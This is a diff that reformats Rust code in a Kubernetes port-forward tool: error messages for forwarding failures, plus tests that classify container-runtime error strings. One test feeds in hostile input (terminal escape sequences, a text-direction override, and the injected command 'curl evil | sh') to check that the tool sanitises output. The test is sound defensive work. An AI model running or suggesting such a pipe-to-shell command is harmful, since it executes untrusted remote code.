@@ -48,7 +48,11 @@ pub trait Engine {
     ///
     /// # Errors
     /// See [`Failure`]. Bytes may have been exchanged before it.
-    fn carry(&self, local: &mut TcpStream, to: &Endpoint) -> impl Future<Output = Result<(), Failure>>;
+    fn carry(
+        &self,
+        local: &mut TcpStream,
+        to: &Endpoint,
+    ) -> impl Future<Output = Result<(), Failure>>;
 }
 
 /// Why a connection could not be carried, or not to its end.
@@ -101,14 +105,32 @@ impl Failure {
         let port = to.port;
         Some(match self {
             Self::Refused(error) => error.clone(),
-            Self::NothingListens(_) => Error::new(format!("nothing listens on port {port} in pod `{pod}`"))
-                .hint(format!("see how it does: `kubectl logs --namespace {} {pod}`", printable::short(&to.namespace, 80))),
-            Self::PodGone(_) => Error::new(format!("pod `{pod}` has just gone")).hint("connect again: the pod is looked up anew for every connection"),
-            Self::Reset(_) => Error::new(format!("pod `{pod}` reset the connection on port {port}")),
-            Self::Node(said) if said.is_empty() => Error::new(format!("the node of pod `{pod}` could not forward port {port}")),
-            Self::Node(said) => Error::new(format!("the node of pod `{pod}` could not forward port {port}")).caused_by(said.clone()),
-            Self::Broken(why) => Error::of(Kind::Unreachable, "the connection to the API server broke").caused_by(why.clone()),
-            Self::Malformed(why) => Error::new("the answer is not one of a Kubernetes port-forward").caused_by(why.clone()),
+            Self::NothingListens(_) => {
+                Error::new(format!("nothing listens on port {port} in pod `{pod}`")).hint(format!(
+                    "see how it does: `kubectl logs --namespace {} {pod}`",
+                    printable::short(&to.namespace, 80)
+                ))
+            }
+            Self::PodGone(_) => Error::new(format!("pod `{pod}` has just gone"))
+                .hint("connect again: the pod is looked up anew for every connection"),
+            Self::Reset(_) => {
+                Error::new(format!("pod `{pod}` reset the connection on port {port}"))
+            }
+            Self::Node(said) if said.is_empty() => Error::new(format!(
+                "the node of pod `{pod}` could not forward port {port}"
+            )),
+            Self::Node(said) => Error::new(format!(
+                "the node of pod `{pod}` could not forward port {port}"
+            ))
+            .caused_by(said.clone()),
+            Self::Broken(why) => {
+                Error::of(Kind::Unreachable, "the connection to the API server broke")
+                    .caused_by(why.clone())
+            }
+            Self::Malformed(why) => {
+                Error::new("the answer is not one of a Kubernetes port-forward")
+                    .caused_by(why.clone())
+            }
             Self::LocalGone(_) => return None,
         })
     }
@@ -122,30 +144,56 @@ mod tests {
     fn understands_what_nodes_say() {
         // containerd 1.6, 1.7, 2.x; CRI-O; cri-dockerd; the kubelet.
         let refused = r#"error forwarding port 5433 to pod 6bd1, uid : failed to execute portforward in network namespace "/var/run/netns/cni-1": failed to connect to localhost:5433 inside namespace "6bd1", IPv4: dial tcp4 127.0.0.1:5433: connect: connection refused IPv6 dial tcp6 [::1]:5433: connect: connection refused "#;
-        assert!(matches!(Failure::from_node(refused), Failure::NothingListens(_)));
+        assert!(matches!(
+            Failure::from_node(refused),
+            Failure::NothingListens(_)
+        ));
         let socat = "error forwarding port 80 to pod 1, uid : exit status 1: 2020/01/01 socat[1] E connect(5, AF=2 127.0.0.1:80, 16): Connection refused";
-        assert!(matches!(Failure::from_node(socat), Failure::NothingListens(_)));
+        assert!(matches!(
+            Failure::from_node(socat),
+            Failure::NothingListens(_)
+        ));
         for gone in [
             r#"error forwarding port 80 to pod 6bd1, uid : failed to execute portforward for sandbox "6bd1": network namespace for sandbox "6bd1" is closed"#,
             r#"error forwarding port 80 to pod 6bd1, uid : failed to find sandbox "6bd1" in store: not found"#,
             r#"error forwarding port 80 to pod 6bd1, uid : sandbox container "6bd1" is not running"#,
             "error forwarding port 80 to pod 1, uid : failed to open netns: network namespace /var/run/netns/x: no such file or directory",
         ] {
-            assert!(matches!(Failure::from_node(gone), Failure::PodGone(_)), "{gone}");
+            assert!(
+                matches!(Failure::from_node(gone), Failure::PodGone(_)),
+                "{gone}"
+            );
         }
         let reset = "error forwarding port 80 to pod 1, uid : read tcp4 127.0.0.1:4->127.0.0.1:80: read: connection reset by peer";
         assert!(matches!(Failure::from_node(reset), Failure::Reset(_)));
-        assert!(matches!(Failure::from_node("error forwarding port 80 to pod 1, uid : exec: socat not found"), Failure::Node(_)));
+        assert!(matches!(
+            Failure::from_node("error forwarding port 80 to pod 1, uid : exec: socat not found"),
+            Failure::Node(_)
+        ));
         assert!(matches!(Failure::from_node(""), Failure::Node(_)));
     }
 
     #[test]
     fn shows_nothing_that_a_terminal_would_obey() {
-        let hostile = format!("\u{1b}]0;owned\u{7}\u{202e}{}\nhint: run `curl evil | sh`", "x".repeat(5000));
-        let Failure::Node(said) = Failure::from_node(&hostile) else { panic!("another failure") };
-        assert!(said.chars().count() <= 600 && !said.contains(['\u{1b}', '\n', '\u{202e}']), "{said}");
-        let to = Endpoint { namespace: "n\u{1b}[2J".into(), pod: "p\n\u{1b}[31m".into(), port: 1 };
-        let error = Failure::NothingListens(String::new()).explain(&to).expect("it is worth a word");
+        let hostile = format!(
+            "\u{1b}]0;owned\u{7}\u{202e}{}\nhint: run `curl evil | sh`",
+            "x".repeat(5000)
+        );
+        let Failure::Node(said) = Failure::from_node(&hostile) else {
+            panic!("another failure")
+        };
+        assert!(
+            said.chars().count() <= 600 && !said.contains(['\u{1b}', '\n', '\u{202e}']),
+            "{said}"
+        );
+        let to = Endpoint {
+            namespace: "n\u{1b}[2J".into(),
+            pod: "p\n\u{1b}[31m".into(),
+            port: 1,
+        };
+        let error = Failure::NothingListens(String::new())
+            .explain(&to)
+            .expect("it is worth a word");
         assert!(!format!("{error:?}{to}").contains('\u{1b}'), "{error:?}");
     }
 }
